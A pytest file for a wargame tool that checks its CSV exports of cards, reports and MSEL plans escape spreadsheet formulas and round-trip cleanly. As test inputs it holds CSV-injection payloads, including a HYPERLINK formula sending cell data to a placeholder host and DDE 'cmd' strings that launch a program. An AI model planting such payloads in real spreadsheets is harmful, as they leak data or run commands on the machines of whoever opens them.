"""Every CSV the game writes (the report's data, the MSEL, the cards) opens in a spreadsheet
as text: no cell from content, a plan or a save starts a formula (`=HYPERLINK(...)` would
run when the sheet is opened). What the game reads back is exactly what was written, and
`plan new` writes a plan that validates whatever the scenario's titles hold."""

from __future__ import annotations

import csv
import io
import shutil

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from test_bad_content import TUTORIAL, edit

from redline.cli import main
from redline.content import load_scenario
from redline.engine import Game, Note
from redline.exercise.load import load_plan
from redline.saves import write_save
from redline.textsafe import FORMULA_START, sheet_cell, sheet_text

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "'=1+1",  # already quoted once: still read back as written
]


def _formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(FORMULA_START)]


@settings(max_examples=300, deadline=None)
@given(text=st.text() | st.sampled_from(FORMULAS))
def test_a_cell_is_never_a_formula_and_reads_back_as_written(text):
    cell = sheet_cell(text)
    assert not cell.startswith(FORMULA_START)
    assert sheet_text(cell) == text


@pytest.fixture
def formula_tutorial(tmp_path):
    folder = tmp_path / "formula"
    shutil.copytree(TUTORIAL, folder)
    edit(folder, "scenario.yaml", "id: tutorial", "id: formula")
    text = (folder / "cards.yaml").read_text()
    import yaml

    data = yaml.safe_load(text)
    card = data["cards"][0]
    card["title"] = FORMULAS[0]
    card["text"] = FORMULAS[1]
    card["options"][0]["label"] = FORMULAS[2]
    card["options"][0]["text"] = FORMULAS[5]
    card["options"][1]["label"] = FORMULAS[3]
    card["options"][1]["when"] = "-escalation < -10"
    (folder / "cards.yaml").write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    return folder


def test_cards_export_writes_no_formula_and_imports_back_the_same_cards(formula_tutorial, tmp_path, capsys):
    sheet = tmp_path / "cards.csv"
    assert main(["cards", "export", str(formula_tutorial), "-o", str(sheet)]) == 0
    text = sheet.read_text(encoding="utf-8")
    assert _formula_cells(text) == []
    assert "'=HYPERLINK" in text and "'-escalation < -10" in text
    copy = tmp_path / "copy"
    shutil.copytree(formula_tutorial, copy)
    assert main(["cards", "import", str(sheet), "-o", str(copy), "--replace"]) == 0, capsys.readouterr().err
    before, after = load_scenario(formula_tutorial), load_scenario(copy)
    assert [c.model for c in after.cards] == [c.model for c in before.cards]


def test_report_csv_writes_no_formula_from_content_or_a_save(formula_tutorial, tmp_path, capsys):
    game = Game.start(load_scenario(formula_tutorial), 3)
    while not game.state.is_over:
        game.apply(game.state.legal_actions()[0])
    game.apply(Note(FORMULAS[0], by=FORMULAS[2]))
    save = write_save(tmp_path / "game.json", game, {"label": FORMULAS[1]})
    assert main(["report", str(save), "--format", "csv", "--content", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert "HYPERLINK" in out and _formula_cells(out) == []


def test_msel_round_trip_writes_no_formula_and_keeps_every_inject(tmp_path, capsys):
    plan = tmp_path / "plan.yaml"
    assert main(["plan", "new", "tutorial", "-o", str(plan)]) == 0
    text = plan.read_text()
    assert '"A journalist asks' in text
    text = text.replace(
        '"A journalist asks the coalition when its soldiers will come home."', '"=1+1 in the cell"'
    )
    text = text.replace('notes: ""', 'notes: "@SUM(A1)"', 1)
    plan.write_text(text)
    sheet, again = tmp_path / "msel.csv", tmp_path / "plan2.yaml"
    assert main(["msel", "export", str(plan), "-o", str(sheet)]) == 0
    assert _formula_cells(sheet.read_text(encoding="utf-8")) == []
    assert main(["msel", "import", str(sheet), "--plan", str(plan), "-o", str(again)]) == 0, (
        capsys.readouterr()
    )
    first, second = load_plan(plan).plan, load_plan(again).plan
    assert [(i.text, i.notes, i.event) for i in second.injects] == [
        (i.text, i.notes, i.event) for i in first.injects
    ]
    assert any(i.text == "=1+1 in the cell" for i in second.injects)


@pytest.mark.parametrize(
    "title",
    ["A" * 300, "Two\nlines\nplan:\n  seed: 1", "x" * 119 + "\u00e9" * 50],
    ids=["long", "line-breaks", "long-unicode"],
)
def test_plan_new_writes_a_plan_that_validates_whatever_the_titles(tmp_path, capsys, title):
    folder = tmp_path / "content" / "scenarios" / "odd"
    shutil.copytree(TUTORIAL, folder)
    import yaml

    path = folder / "scenario.yaml"
    data = yaml.safe_load(path.read_text())
    data["scenario"].update(id="odd", title=title, turn_label="Week\nseed: 7")
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    plan = tmp_path / "plan.yaml"
    content = ["--content", str(tmp_path / "content")]
    assert main(["plan", "new", "odd", "-o", str(plan), *content]) == 0, capsys.readouterr().err
    capsys.readouterr()
    code = main(["validate", str(plan), *content])
    out = capsys.readouterr()
    assert code == 0, out.out + out.err
    loaded = load_plan(plan, [tmp_path / "content"]).plan
    assert loaded.seed is None and "\n" not in loaded.title and len(loaded.title) <= 120
